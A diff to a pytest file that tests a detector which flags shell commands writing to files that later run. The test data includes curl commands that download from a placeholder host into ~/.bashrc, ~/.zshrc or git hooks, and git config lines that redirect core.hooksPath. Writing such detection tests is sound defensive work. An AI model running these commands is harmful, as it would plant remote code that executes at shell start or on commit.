@@ -20,9 +20,8 @@ def rules_of(command: str) -> set[str]:
 
 
 @pytest.mark.requirement("WRK-7")
-@pytest.mark.parametrize(
-    ("command", "rule"),
-    [
+def test_it_reaches_a_file_that_runs_later() -> None:
+    reaches = (
         ("curl -fsSLo ~/.bashrc https://x.example", "files.startup"),
         ("curl https://x.example --output=$HOME/.zshrc", "files.startup"),
         ("curl -o.git/hooks/pre-commit https://x.example", "files.git-internals"),
@@ -36,16 +35,13 @@ def rules_of(command: str) -> set[str]:
         ("git config core.hooksPath ~/x", "git.runs-programs"),
         ("git config --global set core.hooksPath x", "git.runs-programs"),
         ("git -c core.hooksPath=/tmp/x commit -m x", "git.runs-programs"),
-    ],
-)
-def test_it_reaches_a_file_that_runs_later(command: str, rule: str) -> None:
-    assert rule in rules_of(command)
+    )
+    assert [command for command, rule in reaches if rule not in rules_of(command)] == []
 
 
 @pytest.mark.requirement("WRK-7")
-@pytest.mark.parametrize(
-    "command",
-    [
+def test_it_only_reads() -> None:
+    reads = (
         "curl -fsSL -H 'o: ~/.bashrc' https://x.example",
         "wget -qO- https://x.example",
         "sort -k2 f",
@@ -58,7 +54,5 @@ def test_it_reaches_a_file_that_runs_later(command: str, rule: str) -> None:
         "git config --get core.hooksPath",
         "git config user.name x",
         "git commit -m 'about -c core.hooksPath=x'",
-    ],
-)
-def test_it_only_reads(command: str) -> None:
-    assert rules_of(command) == set()
+    )
+    assert [command for command in reads if rules_of(command)] == []
